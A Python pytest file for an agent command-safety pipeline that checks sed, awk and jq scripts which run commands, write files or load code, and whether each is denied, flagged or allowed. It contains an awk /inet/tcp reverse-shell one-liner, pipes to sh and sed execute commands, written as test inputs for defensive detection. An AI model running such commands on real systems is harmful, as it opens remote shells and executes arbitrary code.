"""Script languages: sed, awk and jq programs that run commands, write files or load code.

Every delimiter and spelling of sed's `e` and `w`, awk pipes hidden behind
variables and spacing, awk network files, jq modules. Ordinary scripts stay
allowed.
"""

from __future__ import annotations

import pytest

from tether.core.safety.pipeline import SafetyPipeline
from tether.core.safety.registry.scripts import awk_features, sed_script

P = pytest.param


def _decide(pipeline: SafetyPipeline, command: str) -> tuple[str, tuple[str, ...]]:
    verdict = pipeline.decide("Bash", {"command": command})
    return verdict.decision.value, verdict.risk_facts


@pytest.mark.parametrize(
    ("script", "commands", "writes"),
    [
        P("s/a/b/e", 1, 0, id="s-e-slash"),
        P("s|a|b|e", 1, 0, id="s-e-pipe"),
        P("s#a#b#ge", 1, 0, id="s-e-after-g"),
        P("s,a,b,eg", 1, 0, id="s-e-before-g"),
        P("1e id", 1, 0, id="e-addressed"),
        P("$e id", 1, 0, id="e-last-line"),
        P("/x/e id", 1, 0, id="e-regex-address"),
        P("\\%x%e id", 1, 0, id="e-custom-address"),
        P("1,3!e id", 1, 0, id="e-negated-range"),
        P("{e id\n}", 1, 0, id="e-in-block"),
        P("e", 1, 0, id="e-bare"),
        P("s/a/b/w out", 0, 1, id="s-w-slash"),
        P("s:a:b:w out", 0, 1, id="s-w-colon"),
        P("w out", 0, 1, id="w"),
        P("1W out", 0, 1, id="W-addressed"),
        P("/a/,/b/w out", 0, 1, id="w-range"),
        P("s/w/x/", 0, 0, id="w-in-pattern"),
        P("/wr/p", 0, 0, id="w-in-address"),
        P("s/e/x/g", 0, 0, id="e-in-pattern"),
        P("a\\\nline e", 0, 0, id="append-text"),
        P("y/abc/xyz/", 0, 0, id="transliterate"),
    ],
)
def test_sed_commands_in_every_delimiter(script: str, commands: int, writes: int) -> None:
    use = sed_script(script)
    assert (len(use.commands), len(use.writes), use.unknown) == (commands, writes, [])


@pytest.mark.parametrize(
    "script",
    [P("1k", id="unknown-command"), P("s/a/b/X", id="unknown-flag"), P("s/a/b", id="open")],
)
def test_sed_unknown_is_reported(script: str) -> None:
    assert sed_script(script).unknown


@pytest.mark.parametrize(
    ("program", "feature"),
    [
        P("{print | c}", "pipe", id="pipe-to-variable"),
        P('{print |"sh"}', "pipe", id="pipe-no-space"),
        P("{c | getline x}", "pipe", id="getline-from-variable"),
        P('BEGIN{"id" |& getline}', "pipe", id="coprocess"),
        P("BEGIN{system (c)}", "system", id="system-spaced"),
        P('@include "x.awk"', "directive", id="include"),
        P('BEGIN{s="/inet/tcp/0/h/1"; print 1 |& s}', "network", id="inet"),
        P("{print > f}", "output", id="print-to-variable"),
        P('{printf "%s", $0 >> "x"}', "output", id="printf-append"),
        P("{print ENVIRON[k]}", "environ", id="environ-variable"),
    ],
)
def test_awk_features(program: str, feature: str) -> None:
    assert feature in awk_features(program)


@pytest.mark.parametrize(
    "program",
    [
        P("/a|b/ {print}", id="alternation-regex"),
        P('{print "a | b > c"}', id="operators-in-string"),
        P("$1 > 3 {print $2}", id="comparison-pattern"),
        P("{if (a || b) print}", id="logical-or"),
        P("{n++} END {print n / 2}", id="division"),
    ],
)
def test_awk_ordinary_programs(program: str) -> None:
    assert not awk_features(program) - {"environ"}


DENIED = [
    P('awk \'BEGIN{s="/inet/tcp/0/10.0.0.1/4444"; while(1){printf "$ " |& s}}\'', id="awk-inet"),
    P("gawk 'BEGIN{print 1 |& \"/inet/udp/0/h/53\"}'", id="gawk-inet-udp"),
]


@pytest.mark.parametrize("command", DENIED)
def test_awk_network_files_are_reverse_shells(
    shared_pipelines: dict[str, SafetyPipeline], command: str
) -> None:
    assert _decide(shared_pipelines["default"], command)[0] == "deny"


ASKED = [
    P("sed 's|x|id|e' README.md", id="sed-s-e-pipe"),
    P("sed --expression='1e id' README.md", id="sed-e-long-option"),
    P("sed -n 's#a#b#w out' README.md", id="sed-w-hash"),
    P("sed -f script.sed README.md", id="sed-script-file"),
    P("sed --file=script.sed README.md", id="sed-script-file-long"),
    P("awk -f prog.awk README.md", id="awk-program-file"),
    P("awk --file prog.awk README.md", id="awk-program-file-long"),
    P("awk '{print | c}' c=sh README.md", id="awk-pipe-variable"),
    P("awk '@include \"x.awk\"; {print}' README.md", id="awk-include"),
    P("jq -f filter.jq a.json", id="jq-from-file"),
    P("jq --from-file filter.jq a.json", id="jq-from-file-long"),
    P("jq 'include \"m\"; .' a.json", id="jq-include"),
    P("jq -L . 'import \"m\" as m; .' a.json", id="jq-library"),
]


@pytest.mark.parametrize("command", ASKED)
def test_scripts_that_run_write_or_load_ask(
    shared_pipelines: dict[str, SafetyPipeline], command: str
) -> None:
    decision, facts = _decide(shared_pipelines["default"], command)
    assert decision != "allow", facts


ALLOWED = [
    P("sed -n '1,5p' README.md", id="sed-print-range"),
    P("sed -e '/^#/d' -e 's/a/b/g' README.md", id="sed-two-expressions"),
    P("sed '$!N;P;D' README.md", id="sed-join"),
    P("awk '/a|b/ {print $1}' README.md", id="awk-alternation"),
    P("awk -F: '$3 > 100 {print $1}' README.md", id="awk-comparison"),
    P("jq -r '.a | .b' README.md", id="jq-pipe"),
]


@pytest.mark.parametrize("command", ALLOWED)
def test_ordinary_scripts_stay_allowed(
    shared_pipelines: dict[str, SafetyPipeline], command: str
) -> None:
    decision, facts = _decide(shared_pipelines["default"], command)
    assert decision == "allow", facts
